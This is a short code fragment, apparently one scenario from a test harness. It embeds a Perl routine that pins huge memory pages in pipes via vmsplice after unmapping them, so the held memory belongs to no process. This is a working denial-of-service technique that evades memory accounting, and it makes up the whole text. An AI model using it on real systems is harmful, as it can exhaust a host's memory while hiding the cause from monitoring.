async function attack(world) {
  // A byte in a pipe holds a whole huge page, which no process maps any more.
  note(held(`hold(4, sub { my ($mib) = @_; my ($done, @k) = (0);
    my $a = syscall(MMAP, 0, 66 << 20, 3, 0x22, -1, 0); $a = ($a + (2 << 20)) & ~((2 << 20) - 1); my $n = 0;
    while ($done < $mib) { if ($n % 16 == 0) { pipe(my $r, my $w) or die "$!"; push @k, $r, $w } my $w = fileno($k[-1]);
      my $at = $a + (($n % 32) * (2 << 20)); syscall(MADVISE, $at, 2 << 20, 14); poke($at);
      my $vec = pack("JJ", $at, 1); syscall(VMSPLICE, $w, $vec, 1, 2) == 1 or die "vmsplice: $!";
      syscall(MADVISE, $at, 2 << 20, 4); $done += 2; $n++ }
    keep(@k); return $done }, ${world.memoryMib})`));
}
